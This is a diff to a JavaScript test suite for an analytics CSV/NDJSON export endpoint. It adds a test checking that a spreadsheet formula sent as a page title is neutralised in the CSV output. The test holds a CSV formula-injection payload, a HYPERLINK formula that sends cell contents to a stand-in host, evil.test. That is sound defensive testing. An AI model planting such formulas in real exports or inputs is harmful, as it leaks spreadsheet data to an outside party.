@@ -50,6 +50,17 @@ describe('GET /api/websites/{id}/export', () => {
     expect(lines[2]).toContain('"{""plan"":""pro, yearly""}"');
   });
 
+  it('neutralises spreadsheet formulas a visitor sent (a public collect with a formula as title)', async () => {
+    const title = '=HYPERLINK("https://evil.test/?d="&A1,"Click")';
+    await t.http().post('/api/v1/events').send({ website_id: site.id, type: 'pageview', url: 'https://example.com/formula', title, timestamp: '2026-02-20T12:00:00Z' }).expect(202);
+    const res = await t.http().get(url('start_date=2026-02-20&end_date=2026-02-20&format=csv')).set(bearer(owner.token)).expect(200);
+    const row = res.text.split('\r\n')[1];
+    expect(row).toContain(`"'=HYPERLINK(""https://evil.test/?d=""&A1,""Click"")"`);
+    expect(row).not.toMatch(/(^|,)"?=/);
+    const ndjson = await t.http().get(url('start_date=2026-02-20&end_date=2026-02-20')).set(bearer(owner.token)).expect(200);
+    expect(JSON.parse(ndjson.text.trim()).title).toBe(title);
+  });
+
   it('validates format and dates with 400', async () => {
     await t.http().get(url('format=xml')).set(bearer(owner.token)).expect(400);
     await t.http().get(url('start_date=2026-03-05&end_date=2026-03-01')).set(bearer(owner.token)).expect(400);
